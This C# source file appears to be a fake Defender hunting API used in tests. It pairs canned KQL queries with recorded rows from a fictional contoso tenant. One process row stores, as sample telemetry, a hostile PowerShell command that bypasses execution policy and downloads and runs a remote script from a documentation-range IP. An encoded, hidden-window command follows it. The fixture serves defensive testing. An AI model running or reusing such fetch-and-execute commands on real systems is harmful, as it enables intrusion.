namespace DefenderPS.FakeApi;

/// <summary>
/// The hunting queries the fake answers out of the box, with rows from the contoso tenant of <c>tests/recordings</c>
/// (same machine ids, account names and alert), so a row's DeviceId or AccountName pipes into the relation cmdlets.
/// Queries match whatever their whitespace (see <see cref="HuntingEndpoint.Normalize"/>).
/// </summary>
public static class ContosoHunting
{
    public const string LogonsByAccountAndDevice =
        "DeviceLogonEvents | where Timestamp > ago(7d) | summarize LogonCount = count() by AccountName, DeviceName, DeviceId";

    public const string PowerShellProcesses =
        "DeviceProcessEvents | where Timestamp > ago(7d) | where FileName =~ \"powershell.exe\" | project Timestamp, DeviceId, DeviceName, AccountName, ProcessCommandLine, InitiatingProcessFileName, ProcessId";

    /// <summary>The evidence of alert A1 (Suspicious PowerShell download and execution on ws-0142, user1).</summary>
    public const string AlertEvidence =
        "AlertEvidence | where AlertId == \"da638349583245617393_-1127291855\" | project Timestamp, AlertId, Title, EntityType, EvidenceRole, DeviceId, DeviceName, AccountName, FileName, SHA1, RemoteUrl, AdditionalFields";

    public const string RemoteDesktopConnections =
        "DeviceNetworkEvents | where RemotePort == 3389 | summarize Connections = count(), FirstSeen = min(Timestamp), LastSeen = max(Timestamp) by DeviceId, DeviceName, RemoteIP";

    /// <summary>A typo ('whre'): Graph's 400 with the parser's message.</summary>
    public const string Misspelled = "DeviceLogonEvents | whre AccountName == \"user1\"";

    /// <summary>Generated rows: <c>DeviceNetworkEvents | take N</c> answers N rows (at most the service's 100,000), streamed.</summary>
    public const string GeneratedPattern = "DeviceNetworkEvents | take N";

    /// <summary>A bare table name (<c>DeviceEvents</c>, thirty days of everything) answers the result-size 400.</summary>
    public const string TooLargeExample = "DeviceEvents";

    private const string M1 = "7513d6d510e2ddf829035fd7fefa8c785c30adae";
    private const string M2 = "8886f27274236621e7a07d4d42bb110082023c4f";
    private const string M3 = "a72f223ff7bbd01cf59cdbe6f0c1bf0c716681ee";
    private const string M4 = "22ee2dd71fc61f6ece85c42748a0b13ed5e2380d";

    internal static IEnumerable<(string Query, FakeResponse Response)> Answers()
    {
        yield return (LogonsByAccountAndDevice, GraphResponse.HuntingResults(
            """[{"name":"AccountName","type":"String"},{"name":"DeviceName","type":"String"},{"name":"DeviceId","type":"String"},{"name":"LogonCount","type":"Long"}]""",
            $$"""
            [{"AccountName":"user1","DeviceName":"ws-0142.contoso.com","DeviceId":"{{M1}}","LogonCount":14},
             {"AccountName":"user2","DeviceName":"ws-0142.contoso.com","DeviceId":"{{M1}}","LogonCount":2},
             {"AccountName":"user2","DeviceName":"srv-fs01.contoso.com","DeviceId":"{{M2}}","LogonCount":6},
             {"AccountName":"svc-backup","DeviceName":"srv-fs01.contoso.com","DeviceId":"{{M2}}","LogonCount":96},
             {"AccountName":"user1","DeviceName":"srv-fs01.contoso.com","DeviceId":"{{M2}}","LogonCount":1},
             {"AccountName":"user2","DeviceName":"lnx-app01","DeviceId":"{{M3}}","LogonCount":3},
             {"AccountName":"svc-backup","DeviceName":"lnx-app01","DeviceId":"{{M3}}","LogonCount":48},
             {"AccountName":"user1","DeviceName":"mbp-user1","DeviceId":"{{M4}}","LogonCount":9}]
            """));

        yield return (PowerShellProcesses, GraphResponse.HuntingResults(
            """[{"name":"Timestamp","type":"DateTime"},{"name":"DeviceId","type":"String"},{"name":"DeviceName","type":"String"},{"name":"AccountName","type":"String"},{"name":"ProcessCommandLine","type":"String"},{"name":"InitiatingProcessFileName","type":"String"},{"name":"ProcessId","type":"Long"}]""",
            $$"""
            [{"Timestamp":"2023-11-07T12:49:58.113442Z","DeviceId":"{{M1}}","DeviceName":"ws-0142.contoso.com","AccountName":"user1","ProcessCommandLine":"powershell.exe -NoProfile -ExecutionPolicy Bypass -Command \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update.ps1')\"","InitiatingProcessFileName":"winword.exe","ProcessId":7340},
             {"Timestamp":"2023-11-07T12:50:31.8870513Z","DeviceId":"{{M1}}","DeviceName":"ws-0142.contoso.com","AccountName":"user1","ProcessCommandLine":"powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA","InitiatingProcessFileName":"powershell.exe","ProcessId":8116},
             {"Timestamp":"2023-11-12T09:40:12.02Z","DeviceId":"{{M2}}","DeviceName":"srv-fs01.contoso.com","AccountName":"user2","ProcessCommandLine":"powershell.exe -File C:\\Scripts\\Get-ShareAcl.ps1","InitiatingProcessFileName":"explorer.exe","ProcessId":5528}]
            """));

        yield return (AlertEvidence, GraphResponse.HuntingResults(
            """[{"name":"Timestamp","type":"DateTime"},{"name":"AlertId","type":"String"},{"name":"Title","type":"String"},{"name":"EntityType","type":"String"},{"name":"EvidenceRole","type":"String"},{"name":"DeviceId","type":"String"},{"name":"DeviceName","type":"String"},{"name":"AccountName","type":"String"},{"name":"FileName","type":"String"},{"name":"SHA1","type":"String"},{"name":"RemoteUrl","type":"String"},{"name":"AdditionalFields","type":"Dynamic"}]""",
            $$"""
            [{"Timestamp":"2023-11-07T12:52:04.5617393Z","AlertId":"da638349583245617393_-1127291855","Title":"Suspicious PowerShell download and execution","EntityType":"Machine","EvidenceRole":"Impacted","DeviceId":"{{M1}}","DeviceName":"ws-0142.contoso.com","AccountName":null,"FileName":null,"SHA1":null,"RemoteUrl":null,"AdditionalFields":"{\"OSPlatform\":\"Windows11\",\"RiskScore\":\"High\"}"},
             {"Timestamp":"2023-11-07T12:52:04.5617393Z","AlertId":"da638349583245617393_-1127291855","Title":"Suspicious PowerShell download and execution","EntityType":"User","EvidenceRole":"Impacted","DeviceId":null,"DeviceName":null,"AccountName":"user1","FileName":null,"SHA1":null,"RemoteUrl":null,"AdditionalFields":"{\"Sid\":\"S-1-5-21-1004336348-1177238915-682003330-1104\",\"UserPrincipalName\":\"user1@contoso.com\"}"},
             {"Timestamp":"2023-11-07T12:52:04.5617393Z","AlertId":"da638349583245617393_-1127291855","Title":"Suspicious PowerShell download and execution","EntityType":"Process","EvidenceRole":"Related","DeviceId":"{{M1}}","DeviceName":"ws-0142.contoso.com","AccountName":"user1","FileName":"powershell.exe","SHA1":"6cbce4a295c163791b60fc23d285e6d84f28ee4c","RemoteUrl":null,"AdditionalFields":"{\"ProcessId\":7340,\"ParentProcess\":\"winword.exe\"}"},
             {"Timestamp":"2023-11-07T12:52:04.5617393Z","AlertId":"da638349583245617393_-1127291855","Title":"Suspicious PowerShell download and execution","EntityType":"Url","EvidenceRole":"Related","DeviceId":null,"DeviceName":null,"AccountName":null,"FileName":null,"SHA1":null,"RemoteUrl":"http://198.51.100.23/update.ps1","AdditionalFields":null}]
            """));

        yield return (RemoteDesktopConnections, GraphResponse.HuntingResults(
            """[{"name":"DeviceId","type":"String"},{"name":"DeviceName","type":"String"},{"name":"RemoteIP","type":"String"},{"name":"Connections","type":"Long"},{"name":"FirstSeen","type":"DateTime"},{"name":"LastSeen","type":"DateTime"}]""",
            $$"""
            [{"DeviceId":"{{M2}}","DeviceName":"srv-fs01.contoso.com","RemoteIP":"203.0.113.77","Connections":3,"FirstSeen":"2023-11-12T09:29:51.4Z","LastSeen":"2023-11-12T09:31:40.9Z"},
             {"DeviceId":"{{M1}}","DeviceName":"ws-0142.contoso.com","RemoteIP":"10.20.4.11","Connections":12,"FirstSeen":"2023-11-13T08:02:17Z","LastSeen":"2023-11-19T17:45:03Z"}]
            """));

        yield return (Misspelled, GraphResponse.QueryError("Query could not be parsed at 'whre' on line [1,20]"));
    }
}
